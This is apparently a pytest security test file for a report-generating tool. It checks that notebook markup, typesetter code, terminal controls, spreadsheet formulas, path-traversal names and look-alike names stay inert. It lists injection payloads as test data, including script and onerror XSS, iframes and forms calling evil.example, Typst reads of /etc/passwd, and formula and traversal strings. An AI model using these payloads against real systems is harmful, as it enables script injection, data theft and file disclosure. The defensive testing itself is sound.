"""Texts of somebody else in a page, a PDF, a terminal, a spreadsheet, a name: they stay text."""

from __future__ import annotations

import base64
import hashlib
import io
import shutil
from pathlib import Path

import pypdf
import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from nbformat import v4

from bespoke import clients
from bespoke.cli import bespoke
from bespoke.clients.client_names import check_name
from bespoke.clients.confusable import alike
from bespoke.clients.spreadsheet import inert
from bespoke.errors import BespokeError, printable
from bespoke.report.exporters import HTMLExporter, PDFExporter
from bespoke.runner.remote.archive import check_path, pack
from tests.attacks.conftest import CANARY, CLIENT

MARKUP = {
    "a script": f"<script>{CANARY}()</script>",
    "an event": f'<img src="x" onerror="{CANARY}()">',
    "a frame": f'<iframe src="http://evil.example/{CANARY}"></iframe>',
    "a form": f'<form action="http://evil.example/{CANARY}"><input name="p"></form>',
    "a link that runs": f"[click](javascript:{CANARY})",
    "a link of data": f"[click](data:text/html,<script>{CANARY}</script>)",
    "a style that loads": f"<style>@import 'http://evil.example/{CANARY}';</style>",
    "a picture on the web": f"![pixel](http://evil.example/{CANARY}.png)",
    "an object": f'<object data="http://evil.example/{CANARY}"></object>',
    "an SVG with a script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{CANARY}</script></svg>',
    "a base": f'<base href="http://evil.example/{CANARY}/">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url=http://evil.example/{CANARY}">',
}
LOADS = {"script", "iframe", "frame", "object", "embed", "form", "base", "link"}


@pytest.mark.parametrize("what", MARKUP)
def test_markup_in_a_notebook_runs_and_loads_nothing(what: str) -> None:
    """A notebook's text holds markup that runs or loads something in the HTML report."""
    notebook = v4.new_notebook(
        cells=[v4.new_markdown_cell(f"# Title\n\nBefore.\n\n{MARKUP[what]}\n\nAfter.")]
    )
    page = BeautifulSoup(HTMLExporter().from_notebook_node(notebook)[0], "html.parser")
    policy = str(page.find("meta", attrs={"http-equiv": "Content-Security-Policy"}))
    for own in page.select("form[role=search], script"):  # the page's own; a script by its hash alone
        digest = base64.b64encode(hashlib.sha256(own.get_text().encode()).digest()).decode()
        assert own.name == "form" or f"'sha256-{digest}'" in policy
        own.decompose()
    assert not LOADS & {tag.name for tag in page.find_all()}
    for tag in page.find_all():
        assert not any(name.lower().startswith("on") for name in tag.attrs)
        for name in ("src", "href", "action", "data"):
            value = str(tag.attrs.get(name, "")).lower()
            assert not value.startswith(("javascript:", "data:text", "file:"))
            assert name == "href" or not value.startswith(("http:", "//"))
    assert "default-src 'none'" in policy
    assert "After." in page.text


TYPST = (
    '#panic("x")', '#image("/etc/passwd")', '#read("/etc/passwd")', "#include \"/etc/passwd\"", "$ x_1 $ `c` @ref <label>",
    '"); #panic("x") //', "\\u{202e}", "*/ #panic() /*",
)  # fmt: skip


@pytest.mark.parametrize("text", TYPST)
def test_code_of_the_typesetter_is_printed_as_text(text: str) -> None:
    """A table cell holds code of the typesetter."""
    frame = v4.new_output("display_data", {"text/plain": text})
    notebook = v4.new_notebook(cells=[v4.new_markdown_cell("# T"), v4.new_code_cell("1", outputs=[frame])])
    body, _ = PDFExporter(as_of="2026-11-20").from_notebook_node(notebook)
    printed = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(body)).pages)
    assert "".join(text.split()) in "".join(printed.split())
    assert "root:" not in printed


@pytest.mark.parametrize(
    "text", ["\x1b]0;title\x07", "\x1b[31mred", "two\nlines", "\u202e52%", "\x00", "\r over"]
)
def test_a_terminal_shows_controls_and_obeys_none(text: str) -> None:
    """A name holds controls that a terminal obeys."""
    shown = printable(text)
    assert shown.isprintable()
    assert not {"\x1b", "\x07", "\n", "\r", "\x00", "\u202e"} & set(shown)


@pytest.mark.parametrize("cell", ["=HYPERLINK(1)", "+1", "-1+2", "@SUM(A1)", "\t=1", " =1", "＝1"])
def test_a_spreadsheet_shows_formulas_and_runs_none(cell: str) -> None:
    """A cell that we write begins like a formula."""
    assert inert(cell).startswith("'")


# --- names -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["..", "../x", "a/b", "/etc", "con", "nul.txt", ".hidden", "-rf", "a" * 65, "é", "x\n", "x.", "аcme", ""],
)
def test_a_client_name_is_a_plain_folder_name(name: str) -> None:
    """A client is called what would lead elsewhere, or what looks like another."""
    with pytest.raises(BespokeError):
        check_name(name)


@pytest.mark.parametrize("name", ["../x", "/etc/passwd", "a/../../b", "c:\\x", "a\x00b", ""])
def test_no_file_comes_back_outside_its_folder(name: str) -> None:
    """A worker hands back a file whose name leads out of the report's folder."""
    with pytest.raises(BespokeError):
        check_path(name)


def test_what_a_link_leads_to_does_not_travel(client: Path, tmp_path: Path) -> None:
    """A link in the folder takes a file of the consultant's along to the workers."""
    (tmp_path / "secret").write_text(CANARY)
    (client / "anything.txt").symlink_to(tmp_path / "secret")
    assert "anything.txt" not in pack(client)


@pytest.mark.parametrize(
    ("one", "other"),
    [("claims_1", "claims_l"), ("Triage", "Тriage"), ("modern", "modem"), ("Acme", "acme"), ("T10", "TlO")],
)
def test_names_that_look_alike_are_told(one: str, other: str) -> None:
    """Two tasks have names that a reader takes for one another."""
    assert list(alike([one, "something else", other])) == [(other, one)]


def test_check_tells_of_tasks_that_look_alike(client: Path) -> None:
    """The same in tasks.csv."""
    lines = (client / "tasks.csv").read_text().splitlines()
    first = lines[1].split(",")[0]
    (client / "tasks.csv").write_text("\n".join([*lines, lines[1].replace(first, first.upper(), 1)]) + "\n")
    said = [str(p) for p in clients.check(client.parent, CLIENT)]
    assert any("task_id" in line and "looks like" in line and line.endswith("(warning)") for line in said)


def test_check_tells_of_clients_that_look_alike(client: Path) -> None:
    """A client folder whose name a reader takes for another's: its report reaches the wrong reader."""
    other = client.parent / CLIENT.replace("l", "1")
    client.rename(other)
    for name in (CLIENT, "acme"):
        shutil.copytree(other, client.parent / name)
    done = CliRunner().invoke(bespoke, ["check", CLIENT, "--client-data", str(client.parent)])
    warning = f"{CLIENT}: looks like the client {other.name}; a reader will take one for the other (warning)"
    assert (done.exit_code, done.output.splitlines().count(warning)) == (0, 1)
    assert "acme" not in done.output


def test_honest_names_are_not_told() -> None:
    """Not an attack: different words."""
    assert list(alike(["fall", "fail", "invoice", "invoices", "café", "cafe", "claims_1", "claims_2"])) == []
